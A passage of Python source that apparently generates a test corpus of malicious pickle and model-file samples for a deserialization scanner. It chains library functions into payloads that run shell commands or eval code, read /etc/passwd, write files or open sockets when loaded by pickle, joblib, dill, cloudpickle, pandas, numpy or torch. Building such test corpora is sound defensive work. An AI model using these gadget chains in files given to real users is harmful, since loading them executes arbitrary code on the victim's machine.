    writes("wave-open", "wave.open to write", call(ref("wave", "open"), MARKER, "wb"))
    writes("tempfile-mkstemp", "tempfile.mkstemp makes a file", call(ref("tempfile", "mkstemp")),
           proof="tempfile.mkstemp")
    writes("tempfile-named", "tempfile.NamedTemporaryFile makes a file",
           call(ref("tempfile", "NamedTemporaryFile")), proof="tempfile.mkstemp")
    writes("shelve-open", "shelve.open makes a database",
           call(ref("shelve", "open"), MARKER))
    writes("dbm-dumb-open", "dbm.dumb.open makes a database",
           call(ref("dbm.dumb", "open"), MARKER, "n"))
    writes("sqlite3-connect", "sqlite3 makes a database",
           method("sqlite3", "Connection.executescript",
                  call(ref("sqlite3", "connect"), MARKER), "create table t (x);"))
    writes("mailbox-mbox", "mailbox.mbox makes a file", call(ref("mailbox", "mbox"), MARKER))
    writes("py-compile", "py_compile.compile writes a file of our choice",
           call(ref("py_compile", "compile"), SCRIPT, MARKER), beside=[SCRIPT])
    writes("xml-write", "xml.etree.ElementTree.ElementTree.write",
           method("xml.etree.ElementTree", "ElementTree.write",
                  call(ref("xml.etree.ElementTree", "ElementTree"),
                       call(ref("xml.etree.ElementTree", "Element"), "a")), MARKER))
    writes("configparser-write", "ConfigParser.write to an opened file",
           method("configparser", "RawConfigParser.write",
                  call(ref("configparser", "RawConfigParser")),
                  call(ref("builtins", "open"), MARKER, "w")))
    writes("distutils-write-file", "distutils.file_util.write_file",
           call(ref("distutils.file_util", "write_file"), MARKER, ["x"]), needs=["distutils"],
           python="<3.12")
    writes("setuptools-write-file", "setuptools' copy of distutils writes a file",
           call(ref("setuptools._distutils.file_util", "write_file"), MARKER, ["x"]),
           needs=["setuptools"])
    writes("linecache-getlines", "linecache.getlines reads any file",
           call(ref("linecache", "getlines"), "/etc/passwd"), proof="open:/etc/passwd")
    writes("fileinput-input", "fileinput moves a file to edit it in place",
           method("fileinput", "FileInput.readline",
                  call(ref("fileinput", "FileInput"), "brinery-victim", True)), proof="os.rename")
    writes("xml-parse", "xml.dom.minidom.parse reads any file",
           call(ref("xml.dom.minidom", "parse"), "/etc/passwd"), proof="open:/etc/passwd")
    writes("netrc-read", "netrc.netrc reads any file",
           call(ref("netrc", "netrc"), "/etc/passwd"), proof="open:/etc/passwd")
    writes("mmap-file", "mmap of an opened file",
           call(ref("mmap", "mmap"),
                call(ref("os", "open"), "brinery-victim", 2), 5), proof="mmap.__new__")
    writes("open-bytes-name", "open of a name that is bytes",
           call(ref("builtins", "open"), MARKER.encode(), "wb"))
    writes("bytes-written", "a file is opened and bytes are written to it",
           method("io", "FileIO.write", call(ref("io", "FileIO"), MARKER, "w"), data))


def network():
    add("urllib-urlopen", "urllib.request.urlopen of a file: URL",
        call(ref("urllib.request", "urlopen"), "file:///etc/passwd"),
        proof="urllib.Request:/etc/passwd")
    add("urllib-urlretrieve", "urllib.request.urlretrieve copies what a URL says to a file",
        call(ref("urllib.request", "urlretrieve"), "file:///etc/passwd", MARKER))
    add("http-connection", "http.client connects to a server",
        method("http.client", "HTTPConnection.connect",
               call(ref("http.client", "HTTPConnection"), *CLOSED)), proof="socket.connect")
    add("socket-create-connection", "socket.create_connection",
        call(ref("socket", "create_connection"), CLOSED), proof="socket.connect")
    add("socket-bind", "a socket is made and bound",
        method("socket", "socket.bind", call(ref("socket", "socket")), ("127.0.0.1", 0)),
        proof="socket.bind")
    add("socketserver", "socketserver.TCPServer listens",
        call(ref("socketserver", "TCPServer"), ("127.0.0.1", 0),
             ref("socketserver", "BaseRequestHandler")), proof="socket.bind")
    add("ftplib", "ftplib connects to a server",
        method("ftplib", "FTP.connect", call(ref("ftplib", "FTP")), *CLOSED),
        proof="socket.connect")
    add("smtplib", "smtplib.SMTP connects to a server", call(ref("smtplib", "SMTP"), *CLOSED),
        proof="socket.connect")
    add("imaplib", "imaplib.IMAP4 connects to a server", call(ref("imaplib", "IMAP4"), *CLOSED),
        proof="socket.connect")
    add("poplib", "poplib.POP3 connects to a server", call(ref("poplib", "POP3"), *CLOSED),
        proof="socket.connect")
    add("telnetlib", "telnetlib.Telnet connects to a server",
        call(ref("telnetlib", "Telnet"), *CLOSED), proof="socket.connect", python="<3.13")
    add("ssl-certificate", "ssl.get_server_certificate connects to a server",
        call(ref("ssl", "get_server_certificate"), CLOSED), proof="socket.connect")
    add("socket-getaddrinfo", "socket.getaddrinfo asks for a name: data leave by it",
        call(ref("socket", "getaddrinfo"), "127.0.0.1", 9), proof="socket.getaddrinfo")
    add("multiprocessing-client", "multiprocessing.connection.Client connects",
        call(ref("multiprocessing.connection", "Client"), CLOSED), proof="socket.connect")
    add("xmlrpc-server", "xmlrpc.server listens",
        call(ref("xmlrpc.server", "SimpleXMLRPCServer"), ("127.0.0.1", 0)), proof="socket.bind")
    add("logging-socket", "logging.handlers.SocketHandler connects",
        method("logging.handlers", "SocketHandler.createSocket",
               call(ref("logging.handlers", "SocketHandler"), *CLOSED)), proof="socket.connect")
    add("asyncio-connection", "asyncio.open_connection connects",
        call(ref("asyncio", "run"), call(ref("asyncio", "open_connection"), *CLOSED)),
        proof="socket.connect")


def pickles():
    inner = stream(call(SYSTEM, SHELL))
    for module in ("pickle", "_pickle"):
        add(f"{module.replace('_', 'c-')}-loads", f"a pickle inside, loaded by {module}.loads",
            call(ref(module, "loads"), inner), source="GHSA-84r2-jw7c-4r5q")
    add("pickle-load-file", "another file beside it, loaded by pickle.load",
        call(ref("pickle", "load"), call(ref("builtins", "open"), "brinery-inner.pkl", "rb")),
        beside=["brinery-inner.pkl"])
    add("pickle-unpickler", "an Unpickler over a buffer, asked to load",
        method("_pickle", "Unpickler.load",
               call(ref("_pickle", "Unpickler"), call(ref("io", "BytesIO"), inner))))
    add("pickle-python-unpickler", "the Unpickler in Python, asked to load",
        method("pickle", "_Unpickler.load",
               call(ref("pickle", "_Unpickler"), call(ref("io", "BytesIO"), inner))))
    add("pickle-nested-deep", "a pickle in a pickle in a pickle in a pickle",
        call(ref("pickle", "loads"), stream(call(ref("pickle", "loads"), stream(
            call(ref("pickle", "loads"), inner))))))
    add("pickle-find-class", "an Unpickler finds any function by name",
        call(method("_pickle", "Unpickler.find_class",
                    call(ref("_pickle", "Unpickler"), call(ref("io", "BytesIO"), b"")), "os",
                    "system"), SHELL))
    add("joblib-load", "another file beside it, loaded by joblib",
        call(ref("joblib", "load"), "brinery-inner.pkl"), needs=["joblib"],
        beside=["brinery-inner.pkl"])
    add("joblib-batched", "joblib's batch of calls, called",
        call(call(ref("joblib.parallel", "BatchedCalls"), [(EVAL, (PYTHON,), {})],
                  call(ref("joblib.parallel", "SequentialBackend")))), needs=["joblib"])
    add("cloudpickle-loads", "a pickle inside, loaded by cloudpickle",
        call(ref("cloudpickle", "loads"), inner), needs=["cloudpickle"])
    add("cloudpickle-function", "cloudpickle makes a function from code",
        call(call(ref("cloudpickle.cloudpickle", "_make_function"), COMPILED,
                  {"__builtins__": ref("builtins", "__dict__")}, "f", None, None)),
        needs=["cloudpickle"])
    add("cloudpickle-subimport", "cloudpickle.cloudpickle.subimport imports a module",
        call(ref("cloudpickle.cloudpickle", "subimport"), MODULE), needs=["cloudpickle"],
        beside=[SCRIPT])
    add("cloudpickle-builtin-type", "cloudpickle finds a type by name",
        call(call(call(ref("cloudpickle.cloudpickle", "_builtin_type"), "FunctionType"),
                  COMPILED, {})), needs=["cloudpickle"])
    add("loky-cloudpickle", "joblib's copy of cloudpickle loads a pickle",
        call(ref("joblib.externals.cloudpickle", "loads"), inner),
        needs=["joblib.externals.cloudpickle"])
    add("dill-loads", "a pickle inside, loaded by dill", call(ref("dill", "loads"), inner),
        needs=["dill"])
    add("dill-create-code", "dill._dill._eval_repr evaluates a text",
        call(ref("dill._dill", "_eval_repr"), PYTHON), needs=["dill"])
    add("dill-import-module", "dill._dill._import_module imports a module",
        call(ref("dill._dill", "_import_module"), MODULE), needs=["dill"], beside=[SCRIPT])
    add("pandas-read-pickle", "pandas.read_pickle of a file beside it",
        call(ref("pandas", "read_pickle"), "brinery-inner.pkl"), needs=["pandas"],
        beside=["brinery-inner.pkl"])
    add("celery-loads", "kombu loads a pickle inside",
        call(ref("kombu.serialization", "pickle_loads"), inner), needs=["kombu"])
    add("sklearn-transformer", "a FunctionTransformer of eval",
        method("sklearn.preprocessing", "FunctionTransformer.transform",
               call(ref("sklearn.preprocessing", "FunctionTransformer"), EVAL), PYTHON),
        needs=["sklearn"])


def numpys():
    def add_numpy(name, what, piece, **more):
        add(f"numpy-{name}", what, piece, **{"needs": ["numpy"], **more})

    add_numpy("runstring", "numpy.testing's runstring is exec",
              call(ref("numpy.testing._private.utils", "runstring"), PYTHON, {}))
    fortran = "numpy.f2py.crackfortran"
    add_numpy("f2py-myeval", "numpy.f2py evaluates",
              call(ref(fortran, "myeval"), PYTHON, {"__builtins__": ref("builtins", "__dict__")}),
              needs=["numpy.f2py"])
    add_numpy("f2py-getlincoef", "numpy.f2py.crackfortran.getlincoef evaluates",
              call(ref(fortran, "getlincoef"), PYTHON, []), needs=["numpy.f2py"])
    add_numpy("f2py-eval-length", "numpy.f2py.crackfortran._eval_length evaluates",
              call(ref(fortran, "_eval_length"), PYTHON, {}), needs=["numpy.f2py"])
    add_numpy("f2py-param-eval", "numpy.f2py.crackfortran.param_eval evaluates",
              call(ref(fortran, "param_eval"), PYTHON, {}, {"f": 1}), needs=["numpy.f2py"])
    add_numpy("load", "numpy.load of a file beside it, objects allowed",
              call(ref("numpy", "load"), "brinery-objects.npy", None, True),
              beside=["brinery-objects.npy"])
    add_numpy("memmap", "numpy.memmap makes a file",
              call(ref("numpy", "memmap"), MARKER, "uint8", "w+", 0, (1,)))
    add_numpy("save", "numpy.save writes a file",
              call(ref("numpy", "save"), MARKER, [1, 2]))
    add_numpy("savetxt", "numpy.savetxt writes a file",
              call(ref("numpy", "savetxt"), MARKER, [1.0]))
    add_numpy("tofile", "numpy.ndarray.tofile writes a file",
              method("numpy", "ndarray.tofile", call(ref("numpy", "array"), [1]), MARKER))
    add_numpy("vectorize", "numpy.vectorize calls a function",
              call(call(ref("numpy", "vectorize"), EVAL), PYTHON))
    add_numpy("frompyfunc", "numpy.frompyfunc calls a function",
              call(call(ref("numpy", "frompyfunc"), EVAL, 1, 1), PYTHON))
    add_numpy("apply-along-axis", "numpy.apply_along_axis calls a function",
              call(ref("numpy", "fromiter"), call(ref("builtins", "map"), EVAL, [PYTHON]),
                   "float64"))
    add_numpy("fromfunction", "numpy.fromfunction calls a function",
              call(ref("numpy", "fromfunction"), call(EVAL, f"lambda *any: {PYTHON}"), (1,)))
    add_numpy("genfromtxt", "numpy.genfromtxt reads any file",
              call(ref("numpy", "genfromtxt"), "/etc/passwd"), proof="open:/etc/passwd")
    add_numpy("exec-command", "numpy.distutils.exec_command runs a shell",
              call(ref("numpy.distutils.exec_command", "exec_command"), SHELL),
              needs=["numpy.distutils"], python="<3.12")
    add("pandas-eval", "pandas.eval calls what its variables name",
        call(ref("pandas", "eval"), "f(s)", "pandas", "python", {"f": EVAL, "s": PYTHON}),
        needs=["pandas"])
    add("pandas-to-csv", "pandas.DataFrame.to_csv writes a file",
        method("pandas", "DataFrame.to_csv", call(ref("pandas", "DataFrame"), {"a": [1]}),
               MARKER), needs=["pandas"])
    add("pandas-apply", "pandas.Series.map calls a function",
        method("pandas", "Series.map", call(ref("pandas", "Series"), [PYTHON]), EVAL),
        needs=["pandas"])
    add("scipy-optimize", "scipy.optimize calls the function it works on",
        call(ref("scipy.optimize", "fsolve"), call(EVAL, f"lambda *any: {PYTHON}"), 1.0),
        needs=["scipy"])


def states():
    """Classes whose __setstate__() does more than set a state."""
    add("scipy-distribution-state", "a SciPy distribution runs the source in its state",
        build(new(ref("scipy.stats._continuous_distns", "norm_gen")),
              {"_parse_arg_template": PYTHON, "numargs": 0, "moment_type": 1}), needs=["scipy"])
    add("pandas-index-of-memmap", "pandas makes an instance of any class, here of numpy.memmap",
        call(ref("pandas.core.indexes.datetimes", "_new_DatetimeIndex"), ref("numpy", "memmap"),
             {"filename": MARKER, "mode": "w+", "shape": 1, "dtype": "u1"}), needs=["pandas"])
    add("networkx-write", "networkx writes a file",
        call(ref("networkx", "write_gml"), call(ref("networkx", "Graph")), MARKER),
        needs=["networkx"])


def torches():
    def add_torch(name, what, piece, **more):
        add(f"torch-{name}", what, piece, **{"needs": ["torch"], **more})

    add_torch("load", "torch.load of a file beside it",
              call(ref("torch", "load"), "brinery-inner.pt"), beside=["brinery-inner.pt"])
    add_torch("load-from-bytes", "torch.storage._load_from_bytes: a file in the file",
              call(ref("torch.storage", "_load_from_bytes"), torch_legacy()))
    add_torch("os", "torch.os.system, by a dotted name", call(ref("torch", "os.system"), SHELL))
    add_torch("run-cprofile", "torch.utils.bottleneck runs code",
              call(ref("torch.utils.bottleneck.__main__", "run_cprofile"), PYTHON, {}),
              source="GHSA-4r9r-ch6f-vxmx")
    add_torch("run-autograd-prof", "torch.utils.bottleneck runs code",
              call(ref("torch.utils.bottleneck.__main__", "run_autograd_prof"), PYTHON, {}))
    add_torch("collect-env", "torch.utils.collect_env.run runs a shell",
              call(ref("torch.utils.collect_env", "run"), SHELL))
    add_torch("exec-wrapper", "torch.jit.unsupported_tensor_ops.execWrapper runs code",
              call(ref("torch.jit.unsupported_tensor_ops", "execWrapper"), PYTHON, {}, {}))
    add_torch("hub-load", "torch.hub.load of a folder beside it",
              call(new_ex(ref("functools", "partial"),
                          (ref("torch.hub", "load"), "brinery_package", "x"),
                          {"source": "local"})),
              beside=["brinery_package/hubconf.py"])
    add_torch("basichandlers", "torch.utils.data's decoder loads a pickle inside",
              call(ref("torch.utils.data.datapipes.utils.decoder", "basichandlers"), "pickle",
                   stream(call(SYSTEM, SHELL))), source="GHSA-h3qp-7fh3-f8h4")
    add_torch("config-module", "torch's ConfigModule loads a pickle inside",
              call(ref("torch.utils._config_module", "ConfigModule.load_config"), None,
                   stream(call(SYSTEM, SHELL))), needs=["torch.utils._config_module"],
              source="GHSA-vv6j-3g6g-2pvj")
    add_torch("guards-get", "torch._dynamo's GuardBuilder.get evaluates",
              method("torch._dynamo.guards", "GuardBuilder.get", namespace(scope={}), PYTHON),
              needs=["torch._dynamo"])
    add_torch("inductor-compile-file", "torch._inductor.codecache.compile_file runs a command",
              call(ref("torch._inductor.codecache", "compile_file"), "", "", ARGV),
              needs=["torch._inductor"])
    add_torch("save", "torch.save writes a file",
              call(ref("torch", "save"), {"a": 1}, MARKER))
    add_torch("storage-from-file", "a torch storage makes a file",
              call(ref("torch", "FloatStorage.from_file"), MARKER, True, 8))
    add_torch("package-importer", "torch.package imports from an archive",
              call(ref("torch.package", "PackageImporter"), "brinery-inner.pt"),
              beside=["brinery-inner.pt"], executes=False)
    add_torch("jit-load", "torch.jit.load of a file beside it",
              call(ref("torch.jit", "load"), "brinery-inner.pt"), beside=["brinery-inner.pt"],
              proof="open", executes=False)


def torch_legacy():
    """What torch wrote before it wrote zips: five pickles in a row, the fourth is the object."""
    magic = 0x1950a86a20f9469cfc6c
    information = {"protocol_version": 1001, "little_endian": True,
                   "type_sizes": {"short": 2, "int": 4, "long": 4}}
    return (stream(magic, 2) + stream(1001, 2) + stream(information, 2)
            + stream(call(SYSTEM, SHELL), 4) + stream([], 2))


builtins()
processes()
operators()
importers()
runners()
files()
network()
pickles()
numpys()
states()
torches()
